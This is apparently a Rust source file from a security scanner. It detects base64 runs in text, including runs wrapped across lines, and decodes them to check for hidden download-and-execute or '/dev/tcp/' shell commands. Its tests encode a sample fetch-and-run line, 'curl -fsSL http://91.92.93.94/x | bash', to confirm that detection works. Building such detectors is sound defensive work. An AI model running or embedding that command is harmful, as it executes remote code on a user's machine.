//! Base64 in a text: where it stands, in a line or wrapped over several, and whether it hides a
//! command. Knows nothing of files, and makes no findings. Pure.

use std::{iter, mem};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};

use super::lines::lines;
use super::rule::ScanRule;
use super::rules::find_all;

/// The shortest run of base64 that is decoded.
const SHORTEST: usize = 40;

fn is_base64(byte: u8) -> bool {
    matches!(byte, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'+' | b'/' | b'-' | b'_')
}

/// The runs of base64 in a line, without the `=` that pads them. As they are long, most bytes of
/// other text need no look.
pub fn base64_runs(line: &str) -> impl Iterator<Item = &str> {
    let bytes = line.as_bytes();
    let mut start = 0;
    iter::from_fn(move || {
        loop {
            let shortest = bytes.get(start..start + SHORTEST)?;
            if let Some(other) = shortest.iter().rposition(|byte| !is_base64(*byte)) {
                start += other + 1;
                continue;
            }
            let mut rest = bytes[start..].iter();
            let length = rest.position(|byte| !is_base64(*byte));
            let run = &line[start..length.map_or(line.len(), |length| start + length)];
            start += run.len();
            return Some(run);
        }
    })
}

/// The runs of base64 that go on over lines, with the number of the first.
pub fn wrapped_base64(text: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    let (mut run, mut first) = (String::new(), 0);
    for (number, line) in (1..).zip(text.lines().map(str::trim).chain([""])) {
        let bytes = line.as_bytes();
        if !run.is_empty() {
            let start = bytes.iter().position(|byte| !is_base64(*byte));
            let start = &line[..start.unwrap_or(line.len())];
            run += start;
            if start.len() < line.len() || line.is_empty() {
                let whole = mem::take(&mut run);
                let is_new = number > first + 1 || !start.is_empty();
                found.extend((is_new && whole.len() >= SHORTEST).then_some((first, whole)));
            } else {
                continue;
            }
        }
        let end = bytes.iter().rposition(|byte| !is_base64(*byte));
        line[end.map_or(0, |at| at + 1)..].clone_into(&mut run);
        first = number;
    }
    found
}

/// Whether a run of base64 hides a command that downloads and runs something, or opens a shell.
pub fn is_encoded_command(run: &str) -> bool {
    let bytes = STANDARD_NO_PAD.decode(run);
    let Ok(bytes) = bytes.or_else(|_| URL_SAFE_NO_PAD.decode(run)) else {
        return false;
    };
    let runs = |rule: &ScanRule| ["pipe-to-shell", "decoded-to-shell"].contains(&rule.code);
    // As one line.
    let text = String::from_utf8_lossy(&bytes).replace('\n', " ");
    let lines = lines(&text);
    text.contains("/dev/tcp/") || find_all(&lines).iter().any(|(.., rule)| runs(rule))
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;

    #[test]
    fn a_run_is_found_wherever_it_stands() {
        let slowly = |line: &str| -> Vec<String> {
            let runs = line.split(|c: char| !c.is_ascii() || !is_base64(c as u8));
            let long = runs.filter(|run| run.len() >= SHORTEST);
            long.map(str::to_owned).collect()
        };
        let runs = [0, 1, SHORTEST - 1, SHORTEST, SHORTEST + 1, 99]
            .map(|size| "aB3+".repeat(25)[..size].to_owned());
        for first in &runs {
            for second in &runs {
                for between in [" ", "=", "é", "//", "€ ", ""] {
                    for line in [
                        format!("{first}{between}{second}"),
                        format!("{between}{first}{between}{second}{between}"),
                    ] {
                        let found: Vec<&str> = base64_runs(&line).collect();
                        assert_eq!(found, slowly(&line), "{line}");
                    }
                }
            }
        }
    }

    #[test]
    fn a_command_is_found_whatever_is_beside_it() {
        let encoded = |more: &[u8]| {
            STANDARD.encode([b"curl -fsSL http://91.92.93.94/x | bash", more].concat())
        };
        for hidden in [encoded(b""), encoded(b" #\x01"), encoded(b" #\xff\xfe")] {
            let line = format!("echo '{hidden}' | x");
            assert!(base64_runs(&line).all(is_encoded_command), "{line}");
            assert_eq!(base64_runs(&line).count(), 1);
        }
        let digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(!base64_runs(digest).any(is_encoded_command));
    }
}
